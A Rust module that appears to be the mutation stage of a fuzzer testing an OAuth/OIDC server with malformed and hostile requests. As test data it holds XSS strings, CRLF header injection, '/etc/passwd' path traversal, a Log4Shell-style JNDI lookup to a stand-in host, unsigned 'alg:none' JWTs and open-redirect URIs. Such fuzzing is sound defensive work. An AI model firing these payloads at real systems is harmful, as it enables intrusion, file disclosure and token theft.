//! The mutations an attack goes through: each one way a request can be malformed or hostile.

use super::*;

pub(crate) fn mutate(a: &mut Attack, m: Mutation, r: &mut Rng) {
    let e = env();
    match m {
        Mutation::Repeat => {
            let name = a.victim(r);
            let value = a
                .params
                .iter()
                .find(|(n, _)| n == name.as_bytes())
                .map(|(_, v)| v.clone())
                .unwrap_or_else(|| r.alnum(8).into_bytes());
            let other = if r.chance(50) { value.clone() } else { r.alnum(8).into_bytes() };
            a.params.push((name.clone().into_bytes(), value));
            a.params.push((name.into_bytes(), other));
        }
        Mutation::Huge => {
            let name = a.victim(r);
            let n = r.range(10 * 1024, 100 * 1024);
            let value = if r.chance(50) { "A".repeat(n) } else { r.alnum(n) };
            a.set(&name, value);
        }
        Mutation::JustOverValueLimit => {
            let name = a.victim(r);
            let n = r.range(MAX_VALUE + 1, MAX_VALUE + 64);
            a.set(&name, r.b64url(n));
        }
        Mutation::ManyParams => {
            for i in 0..r.range(65, 400) {
                a.params.push((format!("p{i}").into_bytes(), b"1".to_vec()));
            }
        }
        Mutation::BadPercent => {
            let name = a.victim(r);
            let bad = *r.pick(&["%G1", "%", "%FF%FE", "%C3%28", "%E2%82", "%ED%A0%80", "%%", "%0", "%zz", "%25%G1"]);
            if r.chance(70) {
                a.raw_tail.extend_from_slice(format!("&{name}={bad}").as_bytes());
            } else {
                a.raw_tail.extend_from_slice(format!("&{bad}{name}=x").as_bytes());
            }
        }
        Mutation::InvalidUtf8Body => {
            let junk: &[&[u8]] =
                &[b"\xff\xfe", b"\xc3\x28", b"\xe2\x82", b"\xed\xa0\x80", b"\x80", b"\xf8\x88\x80\x80\x80"];
            let name = a.victim(r);
            let mut body = a.encoded_params();
            body.extend_from_slice(format!("&{name}=").as_bytes());
            let bad: &&[u8] = r.pick(junk);
            body.extend_from_slice(bad);
            if r.chance(30) {
                body = {
                    let n = r.range(1, 2000);
                    r.bytes(n)
                };
            }
            a.body_override = Some(body);
            if a.in_query && r.chance(50) {
                // A body on a GET.
                a.content_type = Some(b"application/x-www-form-urlencoded".to_vec());
            }
        }
        Mutation::Nul => {
            let name = a.victim(r);
            let mut v = r.alnum(4).into_bytes();
            v.push(0);
            v.extend_from_slice(r.alnum(4).as_bytes());
            a.set(&name, v);
            if !a.in_query && r.chance(40) {
                let mut body = a.encoded_params();
                body.extend_from_slice(b"&nul=\0\0");
                a.body_override = Some(body);
            }
        }
        Mutation::ContentType => {
            let types: &[&[u8]] = &[
                b"text/plain",
                b"application/json",
                b"multipart/form-data; boundary=xyz",
                b"application/x-www-form-urlencoded; charset=ISO-8859-1",
                b"application/x-www-form-urlencoded;;;",
                b"APPLICATION/X-WWW-FORM-URLENCODED",
                b"application/x-www-form-urlencoded, text/html",
                b"\x80\xff/\xfe",
                b"",
                b"*/*",
            ];
            a.content_type = if r.chance(25) { None } else { Some(r.pick(types).to_vec()) };
        }
        Mutation::JsonBody => {
            let map: serde_json::Map<String, serde_json::Value> = a
                .params
                .iter()
                .map(|(k, v)| {
                    (
                        String::from_utf8_lossy(k).into_owned(),
                        serde_json::Value::String(String::from_utf8_lossy(v).into_owned()),
                    )
                })
                .collect();
            a.body_override = Some(serde_json::Value::Object(map).to_string().into_bytes());
            a.content_type = Some(if r.chance(50) {
                b"application/json".to_vec()
            } else {
                b"application/x-www-form-urlencoded".to_vec()
            });
            if a.method == "GET" && r.chance(50) {
                a.method = "POST".into();
            }
        }
        Mutation::BrokenBasic => {
            let std = base64::engine::general_purpose::STANDARD;
            let value: Vec<u8> = match r.below(12) {
                0 => b"Basic".to_vec(),
                1 => b"Basic ".to_vec(),
                2 => b"Basic !!!".to_vec(),
                3 => format!("Basic {}", std.encode(hostile_client_id(r))).into_bytes(),
                4 => {
                    let mut raw = b"\xff\xfe".to_vec();
                    raw.extend_from_slice(b":");
                    raw.extend_from_slice(&r.bytes(8));
                    format!("Basic {}", std.encode(raw)).into_bytes()
                }
                5 => {
                    let mut v = b"Basic ".to_vec();
                    v.extend_from_slice(b"\xc3\xa9\xff:\xfe");
                    v
                }
                6 => format!("Basic {}", std.encode(":")).into_bytes(),
                7 => format!("Basic {}", std.encode(format!("{}:", hostile_client_id(r)))).into_bytes(),
                8 => format!("Basic {}", std.encode("%zz:%G1")).into_bytes(),
                9 => format!("basic {}", {
                    let n = r.range(2000, 9000);
                    r.b64url(n)
                })
                .into_bytes(),
                10 => format!("Basic {}=====", std.encode(format!("{}:x", hostile_client_id(r)))).into_bytes(),
                _ => format!("Digest username=\"{}\"", hostile_client_id(r)).into_bytes(),
            };
            a.header("authorization", value);
            // Never pair broken credentials with a seeded client id in the body.
            if a.params.iter().any(|(n, _)| n == b"client_id") {
                a.set("client_id", hostile_client_id(r));
            }
        }
        Mutation::BearerGarbage => {
            let value: Vec<u8> = match r.below(9) {
                0 => b"Bearer".to_vec(),
                1 => b"Bearer ".to_vec(),
                2 => format!("Bearer {}", {
                    let n = r.range(1, 200);
                    r.b64url(n)
                })
                .into_bytes(),
                3 => format!("Bearer {}", shaped_handle(r)).into_bytes(),
                4 => b"Bearer \x80\x81\xfe".to_vec(),
                5 => format!("bearer {}", {
                    let n = r.range(4000, 9000);
                    r.b64url(n)
                })
                .into_bytes(),
                6 => format!("Bearer {} {}", r.alnum(10), r.alnum(10)).into_bytes(),
                7 => format!("Bearer {}.{}.{}", r.b64url(30), r.b64url(80), r.b64url(40)).into_bytes(),
                _ => format!("Bearer ..{}..", r.b64url(20)).into_bytes(),
            };
            a.header("authorization", value);
            if r.chance(30) {
                a.header("authorization", format!("Bearer {}", shaped_handle(r)));
            }
        }
        Mutation::OversizedBody => {
            let n = r.range(MAX_BODY + 1, 200 * 1024);
            let mut body = a.encoded_params();
            body.extend_from_slice(b"&pad=");
            while body.len() < n {
                body.push(b'A');
            }
            a.body_override = Some(body);
            if a.method == "GET" && r.chance(70) {
                a.method = "POST".into();
                a.content_type = Some(b"application/x-www-form-urlencoded".to_vec());
            }
        }
        Mutation::UnknownMethod => {
            a.method = r.pick(&["PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "PROPFIND", "FOO", "get"]).to_string();
        }
        Mutation::Cookies => {
            let names = ["oidc_csrf", "__Host-oidc_csrf", "session", "a"];
            let mut cookie = Vec::new();
            let count = r.range(1, 5);
            for _ in 0..count {
                let name = *r.pick(&names);
                let value = match r.below(4) {
                    0 => r.b64url(43),
                    1 => {
                        let n = r.range(0, 60);
                        r.b64url(n)
                    }
                    2 => {
                        let n = r.range(1000, 4000);
                        r.alnum(n)
                    }
                    _ => "\"quoted\"".to_string(),
                };
                cookie.extend_from_slice(format!("{name}={value}; ").as_bytes());
            }
            if r.chance(20) {
                cookie.extend_from_slice(b"bad=\xff\xfe; ;;=;");
            }
            a.header("cookie", cookie);
        }
        Mutation::ForgedTx => {
            let tx = forged_tx(r);
            a.set("tx", tx);
        }
        Mutation::CodeShaped => {
            let name = *r.pick(&["code", "access_token", "code_verifier", "tx"]);
            let handle = shaped_handle(r);
            a.set(name, handle);
        }
        Mutation::LongPath => {
            let n = r.range(1000, 8000);
            let mut path = a.path.trim_end_matches('/').to_string();
            while path.len() < n {
                path.push('/');
                path.push_str(&{
                    let n = r.range(1, 50);
                    r.alnum(n)
                });
            }
            a.path = path;
        }
        Mutation::OpenRedirect => {
            let evil = evil_redirects();
            let uri = r.pick(&evil).clone();
            a.set("redirect_uri", uri);
            if r.chance(40) && matches!(a.target, Target::AuthorizeGet | Target::AuthorizePost) {
                // A valid client with a good state, so an error redirect would be tempting.
                let client = r.pick(&[e.basic_id.clone(), e.public_id.clone()]).clone();
                a.set("client_id", client);
                a.set("response_type", "code");
            }
            if r.chance(20) {
                let uri = r.pick(&evil).clone();
                a.params.push((b"redirect_uri".to_vec(), uri.into_bytes()));
            }
        }
        Mutation::RequestObject => {
            let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD;
            let claims = serde_json::json!({"redirect_uri": "https://evil.example", "client_id": e.basic_id, "response_type": "code"});
            let jwt = format!("{}.{}.", b64.encode(r#"{"alg":"none"}"#), b64.encode(claims.to_string()));
            match r.below(3) {
                0 => a.set("request", jwt),
                1 => a.set(
                    "request_uri",
                    *r.pick(&[
                        "https://evil.example/request.jwt",
                        "urn:ietf:params:oauth:request_uri:abc",
                        "file:///etc/passwd",
                    ]),
                ),
                _ => {
                    a.set("request", jwt);
                    a.set("request_uri", "https://evil.example/r");
                }
            }
        }
        Mutation::WeirdValue => {
            let name = a.victim(r);
            let value: Vec<u8> = match r.below(12) {
                0 => b" ".to_vec(),
                1 => "\u{2603}\u{202e}\u{200b}".as_bytes().to_vec(),
                2 => b"<script>alert(1)</script>".to_vec(),
                3 => b"\"'><img src=x onerror=alert(1)>".to_vec(),
                4 => b"-1".to_vec(),
                5 => b"99999999999999999999999999".to_vec(),
                6 => b"openid openid openid".to_vec(),
                7 => (0..r.range(50, 600)).map(|i| format!("s{i}")).collect::<Vec<_>>().join(" ").into_bytes(),
                8 => b"\r\nSet-Cookie: injected=1".to_vec(),
                9 => b"../../../../etc/passwd".to_vec(),
                10 => "\u{FFFD}\u{FEFF}".as_bytes().to_vec(),
                _ => b"${jndi:ldap://evil.example/a}".to_vec(),
            };
            a.set(&name, value);
        }
        Mutation::SpoofedHeaders => {
            let headers: &[(&str, &str)] = &[
                ("x-forwarded-for", "203.0.113.7, 127.0.0.1"),
                ("cf-connecting-ip", "203.0.113.9"),
                ("x-real-ip", "198.51.100.1"),
                ("x-forwarded-host", "evil.example"),
                ("forwarded", "for=203.0.113.1;host=evil.example;proto=https"),
                ("x-forwarded-proto", "https"),
                ("origin", "https://evil.example"),
                ("referer", "https://evil.example/phish"),
                ("accept", "*/*;q=abc, text/html;level=9999999999"),
                ("accept-encoding", "gzip;q=0, br, zstd, identity;q=abc"),
                ("x-http-method-override", "DELETE"),
                ("transfer-encoding-x", "chunked"),
                ("range", "bytes=0-1,2-3,4-5"),
                ("if-none-match", "*"),
            ];
            for _ in 0..r.range(1, 4) {
                let (n, v) = *r.pick(headers);
                a.header(n, v);
            }
        }
        Mutation::QueryOnPost => {
            if !a.in_query && !a.params.is_empty() {
                let q: Vec<String> = a
                    .params
                    .iter()
                    .filter(|(k, _)| k != b"client_id" && k != b"client_secret")
                    .map(|(k, v)| format!("{}={}", encode(k), encode(v)))
                    .collect();
                a.extra_query = Some(q.join("&"));
            } else {
                a.in_query = false;
                a.method = "POST".into();
                a.content_type = Some(b"application/x-www-form-urlencoded".to_vec());
            }
        }
        Mutation::Empty => {
            a.params.clear();
            a.raw_tail.clear();
            if r.chance(50) {
                a.content_type = None;
            }
        }
    }
}
